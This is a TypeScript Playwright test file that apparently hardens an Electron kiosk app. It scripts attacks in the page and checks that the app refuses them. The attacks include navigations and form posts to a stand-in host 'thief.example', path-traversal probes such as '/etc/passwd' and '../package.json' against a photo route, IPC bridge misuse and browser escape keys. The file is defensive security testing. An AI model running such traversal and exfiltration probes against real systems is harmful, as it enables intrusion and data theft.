/**
 * Attacks by a script in the page, and by keys. The program's own answers decide: its policy, its handlers of navigation,
 * windows, requests, permissions and keys, and its calls.
 */
import type { Page } from '@playwright/test';
import { setTimeout as sleep } from 'node:timers/promises';
import { combinations, keysOfBrowsers, namesOf } from '../support/kiosk/keys-of-browsers.ts';
import { refusedCode, tryCode } from '../support/kiosk/try-code.ts';
import { tryDevices } from '../support/kiosk/try-devices.ts';
import { refusedLoading, tryLoading } from '../support/kiosk/try-loading.ts';
import { unlike, type Attack } from './attack.ts';
import { stayInside } from './kiosk-lock.ts';

/** Nobody answers there, and the stand-in lets no request out of the machine. */
const elsewhere = 'http://thief.example';
/** Time in which a navigation or a window that nobody stops begins, ms. */
const beginMs = 500;

/** Runs a script in the page that tries to leave it, and tells where the page is afterwards. */
async function leaves(page: Page, script: string): Promise<readonly string[]> {
  const before = page.url();
  await page.evaluate(script);
  await sleep(beginMs);
  return page.url() === before ? [] : [`the page went to ${page.url()}`];
}

const none = { control: false, meta: false, alt: false, shift: false };

export const pageAttacks: Readonly<Record<string, Attack>> = {
  'no Node in the page': async ({ page }) =>
    page.evaluate(() =>
      ['require', 'process', 'module', 'Buffer', '__dirname'].filter((name) => name in globalThis),
    ),

  'no inline script and no evaluation of text': async ({ page }) =>
    unlike(await page.evaluate(tryCode), refusedCode),

  'nothing is loaded from elsewhere, and nothing sent there': async ({ page }) =>
    unlike(await page.evaluate(tryLoading, elsewhere), refusedLoading),

  'no new window': async ({ page }) => {
    const before = page.url();
    await page.evaluate((address) => {
      window.open(`${address}/window`);
      const link = Object.assign(document.createElement('a'), {
        href: `${address}/blank`,
        target: '_blank',
        rel: 'opener',
        id: 'attack',
        textContent: 'Elsewhere',
      });
      link.style.cssText = 'position: fixed; inset: 0 auto auto 0; z-index: 9';
      document.body.append(link);
      link.click();
    }, elsewhere);
    const link = page.locator('#attack');
    await link.click({ button: 'middle' });
    await sleep(beginMs);
    await link.evaluate((element) => element.remove());
    const windows = page
      .context()
      .pages()
      .filter((one) => one.url().startsWith(elsewhere));
    return [
      ...windows.map((one) => `a window shows ${one.url()}`),
      ...(page.url() === before ? [] : ['the page left']),
    ];
  },

  'no navigation by an address': ({ page }) =>
    leaves(page, `location.href = '${elsewhere}/leave?customer=Ada'`),
  'no form post': ({ page }) =>
    leaves(
      page,
      `const form = Object.assign(document.createElement('form'), { action: '${elsewhere}/form', method: 'post' });
       document.body.append(form); form.submit(); form.remove();`,
    ),
  'no meta refresh': ({ page }) =>
    leaves(
      page,
      `const refresh = Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=${elsewhere}/refresh' });
       document.head.append(refresh); setTimeout(() => refresh.remove(), 200);`,
    ),
  'no dropped file or address': ({ page }) =>
    leaves(
      page,
      `for (const type of ['text/uri-list', 'text/plain']) {
         const dataTransfer = new DataTransfer();
         dataTransfer.setData(type, '${elsewhere}/dropped');
         dataTransfer.items.add(new File(['<script>'], 'dropped.html', { type: 'text/html' }));
         for (const name of ['dragenter', 'dragover', 'drop']) {
           const event = new DragEvent(name, { dataTransfer, bubbles: true, cancelable: true });
           document.body.dispatchEvent(event);
           if (name !== 'dragenter' && !event.defaultPrevented) throw new Error(name + ' is open');
         }
       }`,
    ),

  'no place, microphone, screen, notification, USB or clipboard': async ({ page }) => {
    const found = await page.evaluate(tryDevices);
    const refused = {
      microphone: 'NotAllowedError',
      screen: 'NotAllowedError',
      clipboard: 'NotAllowedError',
    };
    return unlike(found, { ...refused, usb: 'SecurityError', place: 'denied', notifications: 'denied' });
  },

  'no file behind the photo route': async ({ page }) =>
    page.evaluate(async () => {
      const zeros = '0'.repeat(32);
      const paths = [
        ...['../package.json', '..%2f..%2fpackage.json', '/etc/passwd', 'C:%5cx', '%5c%5chost%5cx', '%00'],
        ...['img_0', `img_${zeros}`, `img_${zeros}/../../package.json`, `ord_${zeros}`],
      ];
      const open: string[] = [];
      for (const path of paths) {
        const { status } = await fetch(`/photo/${path}`);
        if (status < 400) open.push(`${path}: ${status}`);
      }
      return open;
    }),

  'no call of another shape, with a long text or an id of another kind': async ({ page }) => {
    const found = await page.evaluate(async () => {
      const bridge = Reflect.get(globalThis, 'headroom') as Record<
        string,
        (args?: unknown) => Promise<unknown>
      >;
      const codeOf = async (name: string, args: unknown): Promise<unknown> => {
        const answer = (await bridge[name]?.(args)) as { ok: boolean; error?: { code: string } };
        return answer.ok ? 'answered' : answer.error?.code;
      };
      const zeros = '0'.repeat(32);
      return {
        shape: await codeOf('openOrder', { order: [] }),
        more: await codeOf('openOrder', { orderId: `ord_${zeros}`, more: 1 }),
        long: await codeOf('findOrders', { text: 'x'.repeat(1_000_000) }),
        kind: await codeOf('openOrder', { orderId: `cus_${zeros}` }),
        path: await codeOf('keepScreen', { screen: '//thief.example/' }),
        generic: ['invoke', 'send', 'on', 'ipcRenderer'].some((name) => name in bridge),
      };
    });
    const refused = 'INVALID_INPUT';
    return unlike(found, {
      shape: refused,
      more: refused,
      long: refused,
      kind: refused,
      path: refused,
      generic: false,
    });
  },

  'no call from a frame inside the page': async ({ page }) => {
    await page.evaluate(() => document.body.append(document.createElement('iframe')));
    const inner = page.frames().filter((frame) => frame !== page.mainFrame());
    const answers = await Promise.all(
      inner.map((frame) =>
        frame.evaluate(async () => {
          // The stand-in's own way to the main process, which a frame in Electron does not even have.
          const invoke = Reflect.get(globalThis, 'invokeElectron') as (name: string) => Promise<unknown>;
          const answer = (await invoke('headroom:desk')) as { ok: boolean; error?: { code: string } };
          return { bridge: 'headroom' in globalThis, answer: answer.ok ? 'answered' : answer.error?.code };
        }),
      ),
    );
    await page.evaluate(() => document.querySelector('iframe')?.remove());
    if (answers.length === 0) return ['there was no frame'];
    return answers.flatMap((answer) => unlike(answer, { bridge: false, answer: 'FOREIGN_SENDER' }));
  },

  'no key of a browser, with any modifier': async ({ page, window }) => {
    const open = Object.entries(keysOfBrowsers).flatMap(([name, { key, code = '', under }]) =>
      combinations
        .filter(under)
        .filter((held) => !window.webContents.press({ ...held, key, code, type: 'keyDown' }))
        .map((held) => `${name} with ${namesOf(held).join(' and ') || 'no modifier'}`),
    );
    if (window.webContents.press({ ...none, key: 'r', code: 'KeyR', type: 'keyDown' }))
      open.push('typing is refused');
    await stayInside(page);
    return open;
  },
};
